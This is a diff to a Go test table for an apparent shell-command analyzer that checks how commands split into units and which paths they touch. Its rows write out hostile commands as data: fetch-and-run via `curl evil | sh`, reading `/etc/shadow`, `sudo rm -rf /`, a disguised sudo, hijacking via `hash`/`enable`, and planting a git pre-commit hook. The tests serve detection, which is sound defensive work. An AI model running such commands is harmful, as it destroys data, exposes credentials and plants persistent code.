@@ -169,7 +169,7 @@ var analyzeRows = []row{
 
 	// Anchor §5.2: splitting into units (toolgate descends further).
 	{cmd: `npm install pkg`, units: us(u(`npm install pkg`))},
-	{cmd: `cd /p && npm i x`, units: us(u(`cd /p`), u(`npm i x`)), paths: ps(p(`/p`, `/p`))},
+	{cmd: `cd /p && npm i x`, units: us(u(`cd /p`), u(`npm i x`)), paths: ps(p(`/p`, `/p`), p(`i`, `i`, in(`/p`)), p(`x`, `x`, in(`/p`)))}, // bare words of a writer after a cd out of the project are paths
 	{cmd: `a || b`, units: us(u(`a`), u(`b`))},
 	{cmd: `a ; b`, units: us(u(`a`), u(`b`))},
 	{cmd: `a & b`, units: us(u(`a`), u(`b`))},
@@ -182,7 +182,7 @@ var analyzeRows = []row{
 	{cmd: `echo $(curl evil | sh)`, units: us(u(`echo $(curl evil | sh)`), u(`curl evil`, CtxCmdSubst), u(`sh`, CtxCmdSubst, opq))},
 	{cmd: `diff <(cat /etc/shadow)`, units: us(u(`diff <(cat /etc/shadow)`), u(`cat /etc/shadow`, CtxProcSubst)), paths: ps(p(`/etc/shadow`, `/etc/shadow`))},
 	{cmd: `( rm -rf foo )`, units: us(u(`rm -rf foo`, CtxSubshell))},
-	{cmd: `( cd /t && rm x )`, units: us(u(`cd /t`, CtxSubshell), u(`rm x`, CtxSubshell)), paths: ps(p(`/t`, `/t`))},
+	{cmd: `( cd /t && rm x )`, units: us(u(`cd /t`, CtxSubshell), u(`rm x`, CtxSubshell)), paths: ps(p(`/t`, `/t`), p(`x`, `x`, in(`/t`)))},
 	{cmd: `echo $( ( rm x ) )`, units: us(u(`echo $( ( rm x ) )`), u(`rm x`, CtxSubshell)), paths: ps(p(`x`, `x`))},
 	{cmd: ``},
 	{cmd: `   `},
@@ -202,7 +202,7 @@ var analyzeRows = []row{
 	{cmd: `find . -type f -exec rm {} +`, units: us(u(`find . -type f -exec rm {} +`, ind), u(`rm {}`, CtxWrapped)), paths: ps(p(`.`, `.`))},
 	{cmd: `# just a comment`},
 	{cmd: `cd /repo && git push`, units: us(u(`cd /repo`), u(`git push`)), paths: ps(p(`/repo`, `/repo`))},
-	{cmd: `cd /repo && rm -rf build`, units: us(u(`cd /repo`), u(`rm -rf build`)), paths: ps(p(`/repo`, `/repo`))},
+	{cmd: `cd /repo && rm -rf build`, units: us(u(`cd /repo`), u(`rm -rf build`)), paths: ps(p(`/repo`, `/repo`), p(`build`, `build`, in(`/repo`)))},
 	{cmd: `{ rm -rf x; }`, units: us(u(`rm -rf x`, CtxGroup)), paths: ps(p(`x`, `x`))},
 	{cmd: `if true; then rm -rf x; fi`, units: us(u(`true`, CtxIf), u(`rm -rf x`, CtxIf)), paths: ps(p(`x`, `x`))},
 	{cmd: `for f in a; do rm $f; done`, units: us(u(`rm $f`, CtxLoop))},
@@ -625,6 +625,38 @@ var analyzeRows = []row{
 	{cmd: `hash -p /tmp/evil ls; ls`, units: us(u(`hash -p /tmp/evil ls`, ind), u(`ls`, ind)), paths: ps(p(`/tmp/evil`, `/tmp/evil`))},
 	{cmd: `enable -f ./evil.so ls`, units: us(u(`enable -f ./evil.so ls`, opq)), paths: ps(p(`./evil.so`, `./evil.so`))},
 	{cmd: `hash -r`, units: us(u(`hash -r`))},
+	// More programs that run their operands, or a string, as a command.
+	{cmd: `valgrind --tool=memcheck rm -rf x`, units: us(u(`valgrind --tool=memcheck rm -rf x`, ind), u(`rm -rf x`, CtxWrapped)), paths: ps(p(`x`, `x`))},
+	{cmd: `faketime '2020-01-01' rm -rf x`, units: us(u(`faketime 2020-01-01 rm -rf x`, ind), u(`rm -rf x`, CtxWrapped)), paths: ps(p(`x`, `x`))},
+	{cmd: `nsenter -t 1 -m rm -rf x`, units: us(u(`nsenter -t 1 -m rm -rf x`, ind), u(`rm -rf x`, CtxWrapped)), paths: ps(p(`x`, `x`))},
+	{cmd: `sg wheel -c 'rm -rf x'`, units: us(u(`sg wheel -c rm -rf x`, opq), u(`rm -rf x`, CtxPayload)), paths: ps(p(`x`, `x`))},
+	{cmd: `nix-shell -p jq --run 'rm -rf x'`, units: us(u(`nix-shell -p jq --run rm -rf x`, opq), u(`rm -rf x`, CtxPayload)), paths: ps(p(`x`, `x`))},
+	{cmd: `nix-shell -p jq`, units: us(u(`nix-shell -p jq`, opq))},
+	// A for list of numbers ($(seq N) with decimal operands, $((…))) cannot
+	// be code where the variable reaches arithmetic; other output can.
+	{cmd: `for i in $(seq 3); do echo $((i+1)); done`, units: us(u(`seq 3`, CtxCmdSubst), u(`echo $((i+1))`, CtxLoop))},
+	{cmd: `for i in 0 $(seq -w 1 10) $((n+1)); do echo $((i*2)); done`, units: us(u(`seq -w 1 10`, CtxCmdSubst), u(`echo $((i*2))`, CtxLoop))},
+	{cmd: `for i in $(seq $n); do echo $((i+1)); done`, units: us(u(`seq $n`, CtxCmdSubst), u(`echo $((i+1))`, CtxLoop), u(`i+1`, CtxArithmetic, dyn))},
+	{cmd: `for i in $(seq -s, 3); do echo $((i+1)); done`, units: us(u(`seq -s, 3`, CtxCmdSubst), u(`echo $((i+1))`, CtxLoop), u(`i+1`, CtxArithmetic, dyn))},
+	{cmd: `for i in $(cat n); do echo $((i+1)); done`, units: us(u(`cat n`, CtxCmdSubst), u(`echo $((i+1))`, CtxLoop), u(`i+1`, CtxArithmetic, dyn))},
+	{cmd: `n=$(wc -l < f); echo $((n+1))`, units: us(u(`n=$(wc -l < f)`, CtxAssignment), u(`wc -l`, CtxCmdSubst), u(`echo $((n+1))`)), paths: ps(p(`f`, `f`, redir))},
+	{cmd: `n=$(git ls-files | wc -l); [[ $n -gt 3 ]]`, units: us(u(`n=$(git ls-files | wc -l)`, CtxAssignment), u(`git ls-files`, CtxCmdSubst), u(`wc -l`, CtxCmdSubst), u(`[[ $n -gt 3 ]]`, CtxTest))},
+	{cmd: `n=$(wc -l f); echo $((n+1))`, units: us(u(`n=$(wc -l f)`, CtxAssignment), u(`wc -l f`, CtxCmdSubst), u(`echo $((n+1))`), u(`n+1`, CtxArithmetic, dyn))}, // wc prints the file name
+	{cmd: `n=$(cat f | head -1); echo $((n+1))`, units: us(u(`n=$(cat f | head -1)`, CtxAssignment), u(`cat f`, CtxCmdSubst), u(`head -1`, CtxCmdSubst), u(`echo $((n+1))`), u(`n+1`, CtxArithmetic, dyn))},
+	{cmd: `wc() { cat f; }; n=$(wc -l); echo $((n+1))`, units: us(u(`cat f`, CtxFunction), u(`n=$(wc -l)`, CtxAssignment), u(`wc -l`, CtxCmdSubst), u(`echo $((n+1))`), u(`n+1`, CtxArithmetic, dyn))},
+	{cmd: `seq() { :; }; for i in $(seq 3); do echo $((i+1)); done`, units: us(u(`:`, CtxFunction), u(`seq 3`, CtxCmdSubst), u(`echo $((i+1))`, CtxLoop), u(`i+1`, CtxArithmetic, dyn))},
+	// After a cd into a dot directory (or out of the project), a bare word
+	// of a command that may write is a path word: it may create a hook.
+	{cmd: `cd .git/hooks; cp ../../f pre-commit`, units: us(u(`cd .git/hooks`), u(`cp ../../f pre-commit`)), paths: ps(p(`.git/hooks`, `.git/hooks`), p(`../../f`, `../../f`, in(`@CWD@/.git/hooks`)), p(`../../f`, `../../f`), p(`pre-commit`, `pre-commit`, in(`@CWD@/.git/hooks`)), p(`pre-commit`, `pre-commit`))}, // no .git/hooks in the fixture: either directory
+	{cmd: `cd src && cp a b`, units: us(u(`cd src`), u(`cp a b`)), paths: ps(p(`src`, `src`))},
+	{cmd: `cd .git/hooks && cat pre-commit`, units: us(u(`cd .git/hooks`), u(`cat pre-commit`)), paths: ps(p(`.git/hooks`, `.git/hooks`))},
+	// Only a real trap or alias command forgets the variables (HOME too):
+	// the word alias or trap as an argument defines nothing.
+	{cmd: `grep -n alias ~/.gitconfig`, units: us(u(`grep -n alias ~/.gitconfig`)), paths: ps(p(`~/.gitconfig`, `@HOME@/.gitconfig`))},
+	{cmd: `echo trap; cat ~/.gitconfig`, units: us(u(`echo trap`), u(`cat ~/.gitconfig`)), paths: ps(p(`~/.gitconfig`, `@HOME@/.gitconfig`))},
+	{cmd: `command -p trap 'X=1' DEBUG; cat ~/.gitconfig`, units: us(u(`command -p trap X=1 DEBUG`), u(`trap X=1 DEBUG`, CtxWrapped, opq), u(`X=1`, CtxAssignment), u(`cat ~/.gitconfig`)), paths: ps(pu(`~/.gitconfig`))},
+	{cmd: `builtin alias x=y; cat ~/.gitconfig`, units: us(u(`builtin alias x=y`), u(`alias x=y`, CtxWrapped, opq), u(`y`, CtxPayload), u(`cat ~/.gitconfig`)), paths: ps(pu(`~/.gitconfig`))},
+	{cmd: `tra{p,} 'X=1' DEBUG; cat ~/.gitconfig`, units: us(u(`trap tra X=1 DEBUG`, opq), u(`tra`, CtxPayload), u(`cat ~/.gitconfig`)), paths: ps(pu(`~/.gitconfig`))},
 	{cmd: `alias x=1; X=ls; $X`, units: us(u(`alias x=1`, opq), u(`1`, CtxPayload), u(`X=ls`, CtxAssignment), u(`$X`, dyn))},
 	{cmd: `S=sudo; $S rm -rf /`, units: us(u(`S=sudo`, CtxAssignment), u(`sudo rm -rf /`, ind), u(`rm -rf /`, CtxWrapped)), paths: ps(p(`/`, `/`))},
 	{cmd: "sudo -s <<'EOF'\nrm -rf /\nEOF\n", units: us(u(`sudo -s`, ind), u(`sh`, CtxWrapped, opq), u(`rm -rf /`, CtxPayload)), paths: ps(p(`/`, `/`))},
